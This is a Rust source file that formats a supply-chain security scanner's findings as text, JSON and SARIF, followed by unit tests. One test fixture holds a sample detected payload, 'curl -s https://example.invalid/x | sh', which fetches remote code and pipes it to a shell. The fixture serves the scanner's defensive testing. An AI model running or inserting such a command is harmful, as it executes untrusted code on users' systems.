//! Output formats: human text grouped by file, the JSON report, SARIF 2.1.0
//! for GitHub code scanning, and the rule list. Everything printed from the
//! scanned tree (paths, evidence, messages) has already been made printable
//! by the checks; paths are escaped again here because they come straight
//! from directory entries.

use crate::baseline::SARIF_FINGERPRINT_KEY;
use crate::model::{Report, Severity};
use crate::rules::{RULES, Rule};
use crate::sink::clean;
use serde_json::{Value, json};
use std::fmt::Write;

/// GitHub code scanning keeps at most this many results per run.
pub const SARIF_MAX_RESULTS: usize = 25_000;

fn paint(color: bool, code: &str, s: &str) -> String {
    if color {
        format!("\x1b[{code}m{s}\x1b[0m")
    } else {
        s.to_string()
    }
}

fn sev_color(s: Severity) -> &'static str {
    match s {
        Severity::Critical => "1;31",
        Severity::High => "31",
        Severity::Medium => "33",
        Severity::Low => "36",
        Severity::Info => "2",
    }
}

/// Human-readable report: findings grouped by file, each with its evidence
/// line, then a summary. `color` adds ANSI colours (callers decide, honouring
/// NO_COLOR and whether stdout is a terminal).
pub fn text(r: &Report, color: bool) -> String {
    let mut out = String::new();
    let mut last_path: Option<&str> = None;
    for f in &r.findings {
        if last_path != Some(f.path.as_str()) {
            if last_path.is_some() {
                out.push('\n');
            }
            let _ = writeln!(out, "{}", paint(color, "1", &clean(f.path.as_bytes())));
            last_path = Some(&f.path);
        }
        let sev = format!("{:<8}", f.severity.as_str().to_uppercase());
        let _ = writeln!(
            out,
            "  {:>5}  {}  {}  {}",
            f.line,
            paint(color, sev_color(f.severity), &sev),
            paint(color, "2", &f.rule),
            f.message
        );
        if !f.evidence.is_empty() {
            let _ = writeln!(out, "         {} {}", paint(color, "2", "|"), f.evidence);
        }
    }
    if !r.findings.is_empty() {
        out.push('\n');
    }
    let c = r.counts();
    let mut parts: Vec<String> = Vec::new();
    for s in Severity::ALL.iter().rev() {
        if c[*s as usize] > 0 {
            parts.push(paint(
                color,
                sev_color(*s),
                &format!("{} {}", c[*s as usize], s),
            ));
        }
    }
    let st = &r.stats;
    let _ = write!(
        out,
        "{} finding{}{} in {} files ({} scanned, {:.1} MiB) in {} ms",
        r.findings.len(),
        if r.findings.len() == 1 { "" } else { "s" },
        if parts.is_empty() {
            String::new()
        } else {
            format!(" ({})", parts.join(", "))
        },
        st.files,
        st.files_scanned,
        st.bytes_scanned as f64 / (1024.0 * 1024.0),
        st.elapsed_ms
    );
    let mut notes = Vec::new();
    if st.suppressed > 0 {
        notes.push(format!("{} suppressed by baseline", st.suppressed));
    }
    if st.truncated > 0 {
        notes.push(format!("{} files read only in part", st.truncated));
    }
    if st.unreadable > 0 {
        notes.push(format!("{} unreadable", st.unreadable));
    }
    if st.symlinks_skipped > 0 {
        notes.push(format!("{} symlinks not followed", st.symlinks_skipped));
    }
    if st.vendored_dirs_skipped > 0 {
        notes.push(format!(
            "{} vendored directories skipped",
            st.vendored_dirs_skipped
        ));
    }
    if !notes.is_empty() {
        let _ = write!(out, "; {}", notes.join(", "));
    }
    out.push('\n');
    out
}

/// The JSON report: `{"findings": [...], "stats": {...}}`.
pub fn json(r: &Report) -> String {
    serde_json::to_string_pretty(r).expect("report serialises") + "\n"
}

fn sarif_level(s: Severity) -> &'static str {
    match s {
        Severity::Critical | Severity::High => "error",
        Severity::Medium => "warning",
        Severity::Low | Severity::Info => "note",
    }
}

fn security_severity(s: Severity) -> Option<&'static str> {
    match s {
        Severity::Critical => Some("9.5"),
        Severity::High => Some("8.0"),
        Severity::Medium => Some("5.5"),
        Severity::Low => Some("3.0"),
        Severity::Info => None,
    }
}

/// Percent-encodes a relative path for a SARIF artifact URI (RFC 3986:
/// unreserved characters and `/` stay as they are).
pub fn uri_encode(path: &str) -> String {
    let mut out = String::with_capacity(path.len());
    for b in path.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~' | b'/') {
            out.push(b as char);
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

fn sarif_rule(r: &Rule) -> Value {
    let mut props = json!({ "tags": ["security", "supply-chain"], "precision": "high" });
    if let Some(ss) = security_severity(r.severity) {
        props["security-severity"] = json!(ss);
    }
    json!({
        "id": r.id,
        "name": r.id.split('-').map(|w| {
            let mut c = w.chars();
            c.next().map(|f| f.to_ascii_uppercase().to_string() + c.as_str()).unwrap_or_default()
        }).collect::<String>(),
        "shortDescription": { "text": r.name },
        "fullDescription": { "text": r.looks_for },
        "help": {
            "text": format!("{} Why it matters: {}", r.looks_for, r.why),
            "markdown": format!("**Looks for:** {}\n\n**Why it matters:** {}", r.looks_for, r.why),
        },
        "defaultConfiguration": { "level": sarif_level(r.severity) },
        "properties": props,
    })
}

/// SARIF 2.1.0 as GitHub code scanning accepts it: `tool.driver.rules` with
/// ids and descriptions, results with `ruleId`, `ruleIndex`, `level`,
/// `message`, one physical location (relative URI under `%SRCROOT%`, start
/// line, snippet) and `partialFingerprints`.
pub fn sarif(r: &Report, tool_version: &str) -> String {
    let mut findings: Vec<&crate::model::Finding> = r.findings.iter().collect();
    if findings.len() > SARIF_MAX_RESULTS {
        // Keep the worst ones.
        findings.sort_by_key(|f| std::cmp::Reverse(f.severity));
        findings.truncate(SARIF_MAX_RESULTS);
    }
    let results: Vec<Value> = findings
        .iter()
        .map(|f| {
            let idx = RULES.iter().position(|x| x.id == f.rule).unwrap_or(0);
            let mut region = json!({ "startLine": f.line.max(1) });
            if !f.evidence.is_empty() {
                region["snippet"] = json!({ "text": f.evidence });
            }
            json!({
                "ruleId": f.rule,
                "ruleIndex": idx,
                "level": sarif_level(f.severity),
                "message": { "text": format!("{} [{}]", f.message, f.severity) },
                "locations": [{
                    "physicalLocation": {
                        "artifactLocation": { "uri": uri_encode(&f.path), "uriBaseId": "%SRCROOT%" },
                        "region": region,
                    }
                }],
                "partialFingerprints": { SARIF_FINGERPRINT_KEY: f.fingerprint() },
                "properties": { "severity": f.severity.as_str() },
            })
        })
        .collect();
    let doc = json!({
        "$schema": "https://json.schemastore.org/sarif-2.1.0.json",
        "version": "2.1.0",
        "runs": [{
            "tool": { "driver": {
                "name": "runproof-scan",
                "semanticVersion": tool_version,
                "version": tool_version,
                "informationUri": "https://example.invalid/runproof",
                "rules": RULES.iter().map(sarif_rule).collect::<Vec<_>>(),
            }},
            "automationDetails": { "id": "runproof-scan/" },
            "columnKind": "utf16CodeUnits",
            "results": results,
            "properties": {
                "files": r.stats.files,
                "findings": r.findings.len(),
                "resultsOmitted": r.findings.len() - findings.len(),
            },
        }],
    });
    serde_json::to_string_pretty(&doc).expect("sarif serialises") + "\n"
}

/// Every rule as text: id, severity, what it looks for, why it matters.
pub fn rules_text(color: bool) -> String {
    let mut out = String::new();
    for r in RULES {
        let _ = writeln!(
            out,
            "{}  {}  {}",
            paint(color, "1", r.id),
            paint(color, sev_color(r.severity), r.severity.as_str()),
            r.name
        );
        let _ = writeln!(out, "    looks for: {}", r.looks_for);
        let _ = writeln!(out, "    why:       {}\n", r.why);
    }
    let _ = writeln!(out, "{} rules", RULES.len());
    out
}

/// Every rule as a JSON array.
pub fn rules_json() -> String {
    let v: Vec<Value> = RULES
        .iter()
        .map(|r| json!({ "id": r.id, "severity": r.severity, "name": r.name, "looks_for": r.looks_for, "why": r.why }))
        .collect();
    serde_json::to_string_pretty(&v).expect("rules serialise") + "\n"
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Finding;

    fn report() -> Report {
        Report {
            findings: vec![
                Finding {
                    rule: "npm-install-payload".into(),
                    severity: Severity::Critical,
                    path: "pkg dir/package.json".into(),
                    line: 4,
                    message: "`postinstall` lifecycle script fetches remote code and runs it"
                        .into(),
                    evidence: "curl -s https://example.invalid/x | sh".into(),
                },
                Finding {
                    rule: "agent-instructions-file".into(),
                    severity: Severity::Info,
                    path: "CLAUDE.md".into(),
                    line: 1,
                    message: "m".into(),
                    evidence: String::new(),
                },
            ],
            ..Default::default()
        }
    }

    #[test]
    fn text_groups_by_file_without_color() {
        let t = text(&report(), false);
        assert!(t.contains("pkg dir/package.json\n      4  CRITICAL  npm-install-payload"));
        assert!(t.contains("| curl -s https://example.invalid/x | sh"));
        assert!(t.contains("2 findings (1 critical, 1 info)"));
        assert!(!t.contains('\x1b'));
        assert!(text(&report(), true).contains("\x1b[1;31m"));
    }

    #[test]
    fn json_has_the_documented_shape() {
        let v: Value = serde_json::from_str(&json(&report())).unwrap();
        let f = &v["findings"][0];
        let mut keys: Vec<&str> = f.as_object().unwrap().keys().map(String::as_str).collect();
        keys.sort();
        assert_eq!(
            keys,
            ["evidence", "line", "message", "path", "rule", "severity"]
        );
        assert_eq!(f["severity"], "critical");
        assert!(v["stats"]["files"].is_u64());
    }

    #[test]
    fn sarif_shape() {
        let v: Value = serde_json::from_str(&sarif(&report(), "0.1.0")).unwrap();
        assert_eq!(v["version"], "2.1.0");
        let run = &v["runs"][0];
        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
        assert_eq!(rules.len(), RULES.len());
        let res = &run["results"][0];
        let idx = res["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[idx]["id"], res["ruleId"]);
        assert_eq!(res["level"], "error");
        let loc = &res["locations"][0]["physicalLocation"];
        assert_eq!(loc["artifactLocation"]["uri"], "pkg%20dir/package.json");
        assert_eq!(loc["region"]["startLine"], 4);
        assert_eq!(
            res["partialFingerprints"]["runproof/v1"]
                .as_str()
                .unwrap()
                .len(),
            32
        );
        assert_eq!(run["results"][1]["level"], "note");
        // Info rules carry no security-severity; others do, as strings.
        for r in rules {
            let ss = &r["properties"]["security-severity"];
            assert!(ss.is_null() || ss.as_str().unwrap().parse::<f64>().is_ok());
        }
    }

    #[test]
    fn uri_encoding() {
        assert_eq!(uri_encode("a b/c#d%e/ü.js"), "a%20b/c%23d%25e/%C3%BC.js");
    }
}
